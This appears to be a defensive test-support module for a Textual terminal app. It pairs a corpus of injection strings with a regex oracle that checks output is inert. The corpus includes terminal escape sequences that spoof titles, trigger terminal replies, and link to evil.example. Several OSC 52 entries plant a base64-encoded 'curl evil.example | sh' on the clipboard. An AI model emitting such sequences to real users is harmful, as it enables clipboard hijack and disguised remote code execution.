"""The injection corpus: hostile strings a stranger can put in a request, and the test oracle.

The oracle is written independently of ``tui.text`` (the code under test), so that a gap in the
boundary cannot also be a gap in what the tests look for.
"""

from __future__ import annotations

import inspect
import re

# ------------------------------------------------------------------------------- the strings

MARKUP = [
    "[/]",
    "[b]bold[/b]",
    "[bold red on blue]loud",
    "[BOLD]upper[/BOLD]",
    "[B]x[/B] [I]y[/I]",
    "[$accent]dollar tag[/]",
    "[$text-error on $error]alarm[/]",
    "[$BACKGROUND]x",
    "[link=https://evil.example/x]click me[/link]",
    "[link='https://evil.example']quoted[/]",
    "[reverse blink]x",
    "\\[escaped] [[double]] [/unclosed",
    "[dim]" * 50 + "deep",
]

ANSI = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hcleared",
    "\x1b[6n",  # device status report: makes the terminal type a reply
    "\x1b]0;pwned title\x07",
    "\x1b]0;pwned title\x1b\\",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",
    "\x1bP+q544e\x1b\\",  # DCS
    "\x1b_apc payload\x1b\\",
    "\x1bc",  # full reset
    # OSC ended by ST (ESC \\) and by the 8-bit ST (U+009C), and the other OSCs terminals act on
    "\x1b]52;p;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x9c",
    "\x1b]0;pwned title, 8-bit ST\x9c",
    "\x1b]2;window title\x1b\\ \x1b]1;icon title\x1b\\",
    "\x1b]7;file://evil.example/tmp\x1b\\",
    "\x1b]9;notification\x1b\\ \x1b]777;notify;title;body\x1b\\",
    "\x1b]1337;File=name=eA==;inline=1:eA==\x07",
    "\x1b]4;1;rgb:ff/00/00\x1b\\ \x1b]10;?\x1b\\",  # palette change, colour query (a reply)
    "\x1b[?1049h\x1b[?25l\x1b[?1000h",  # alternate screen, hidden cursor, mouse reporting
    "\x1b[>0q\x1b[21t",  # version and title reports: the terminal types a reply
]

C1_AND_C0 = [
    "\x9b2J8-bit CSI",
    "\x9d0;title\x9c",
    "\x90dcs\x9c",
    "\x85next line",
    "good\x08\x08\x08\x08evil",
    "nul\x00byte",
    "bell\x07\x07",
    "carriage\rreturn overwrite",
    "del\x7f",
    # 8-bit C1 written as UTF-8 (C2 9D ...): OSC, ST, DCS, APC, PM, SOS, CSI, single shifts
    "\u009d52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u009c",
    "\u009d0;8-bit title\u0007",
    "\u009d8;;https://evil.example\u009clink\u009d8;;\u009c",
    "\u0090+q544e\u009c \u009fapc\u009c \u009epm\u009c \u0098sos\u009c",
    "\u009b6n \u009b?1049h \u008eG \u008fH \u0084ind \u0088hts",
]

INVISIBLE_ONLY = "\u3164\u115f\u2028\u2029"  # invisible "letters" and separators: nothing to show
# Names with nothing visible: Braille blank, combining grapheme joiner, a variation selector from
# the supplement, a Khmer inherent vowel, VS16, the object replacement character, an Egyptian
# format control (Unicode 15) and a code point unassigned in Python 3.11's Unicode.
BLANK_NAMES = [
    INVISIBLE_ONLY,
    "\u2800",
    "\u034f",
    "\U000e0100",
    "\u17b4",
    "\ufe0f",
    "\ufffc",
    "\U00013439",
    "\u1cbb",
    "\u2800\u3164 \u034f\ufe0f",
]
TAGS_AND_SEPARATORS = [
    "\U000e0001\U000e0065\U000e006e tagged \U000e0041\U000e0042\U000e007f",  # tag characters: invisible ASCII
    "Robert Real\U000e0041",
    "flag \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\ufff9annotated\ufffaruby\ufffb text",  # interlinear annotation
    "Sar\u2028ah Whitfield",
    "line\u2028separator\u2029paragraph",
    "joiner\u034fselector\ufe0f\U000e0100mongolian\u180b\u180e\u17b4",
    "egyptian\U00013430\U00013439\U0001343f format",
    "soft\u00adhyphen \u0600arabic\u06dd\u070f\u08e2 \U000110bdkaithi",
]
BIDI_AND_INVISIBLE = [
    "\u202eevil.exe",
    "\u202dforced ltr\u202c",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "\u200fmark\u200e \u061carabic mark",
    "zero\u200bwidth\u200cjoin\u200dx\ufeff",
    "word\u2060joiner\u2061\u2062\u2063\u2064",
    "Z" + "\u0301\u0310\u0337" * 300,  # a flood of combining marks
    *TAGS_AND_SEPARATORS,
    *BLANK_NAMES,
]

HUGE = [
    "A" * 100_000,
    "[b]" * 30_000,
    "\x1b[31m" * 15_000,
]

BASE_CORPUS = MARKUP + ANSI + C1_AND_C0 + BIDI_AND_INVISIBLE + HUGE


def action_names() -> list[str]:
    """Every action the app has: its own and its screens', and the ones Textual gives every app."""
    from textual.app import App

    from tui.app import app as app_module
    from tui.app.screens import contacts, help, history, modals, stats, triage

    names: set[str] = set()
    classes = [App, app_module.TuiApp]
    for module in (contacts, help, history, modals, stats, triage):
        classes += [c for _, c in inspect.getmembers(module, inspect.isclass) if c.__module__ == module.__name__]
    for cls in classes:
        names |= {n.removeprefix("action_") for n in dir(cls) if n.startswith("action_")}
    return sorted(names)


def click_corpus() -> list[str]:
    """``[@click=...]`` with every action name, on the app and on the screen."""
    out = []
    for name in action_names():
        out.append(f"[@click=app.{name}]{name}[/]")
        out.append(f"[@click=screen.{name}('x')]{name}[/]")
    out.append("[@click=app.simulate_key('q')]Hi[/]")
    out.append("[@CLICK=APP.QUIT]upper[/]")
    return out


def corpus() -> list[str]:
    return BASE_CORPUS + click_corpus()


# Arriving through files only: bytes that are not UTF-8, and JSON escapes of lone surrogates.
INVALID_UTF8 = [b"\xff\xfe broken \xc3\x28 utf8", b"lone \xed\xa0\x80 surrogate bytes", b"\xc0\xaf overlong"]
LONE_SURROGATE_JSON = ["\\ud800 high alone", "low alone \\udfff", "\\udbff\\u0041 swapped"]


# ------------------------------------------------------------------------------------ oracle

# ESC, BEL, every other C0 control but newline, DEL, C1 (however encoded: in a str it is one code
# point), bidi controls, zero-width characters and the other invisible formatting a stranger can use
# to make text look like something else: tag characters, interlinear annotations, line and
# paragraph separators, the combining grapheme joiner, variation selectors, the Egyptian format
# controls, soft hyphen and the Mongolian vowel separator.
_FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff"
    "\U000e0000-\U000e007f\ufff9-\ufffb\u2028\u2029\u034f\ufe00-\ufe0f\U000e0100-\U000e01ef"
    "\U00013430-\U0001343f\u00ad\u180b-\u180f]"
)


def forbidden(text: str) -> list[str]:
    """The forbidden characters in ``text`` (as reprs), empty when it is safe for a terminal."""
    return sorted({repr(m.group()) for m in _FORBIDDEN.finditer(text)})


def assert_inert(text: str, where: str) -> None:
    found = forbidden(text)
    assert not found, f"{where}: {found}"
